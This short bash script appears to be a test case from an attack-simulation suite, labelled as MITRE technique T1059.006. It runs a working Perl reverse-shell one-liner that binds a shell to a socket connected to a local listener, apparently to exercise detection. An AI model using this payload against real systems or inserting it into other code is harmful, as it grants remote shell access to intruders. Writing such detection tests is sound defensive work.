#!/usr/bin/env bash
# attack: T1059.006 Perl reverse shell
. "$(dirname "$0")/lib/common.sh"
p=$(listen)
timeout 10 perl -e "use Socket;\$i='127.0.0.1';\$p=$p;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));if(connect(S,sockaddr_in(\$p,inet_aton(\$i)))){open(STDIN,'>&S');open(STDOUT,'>&S');open(STDERR,'>&S');exec('/bin/sh -i');};" 2>/dev/null
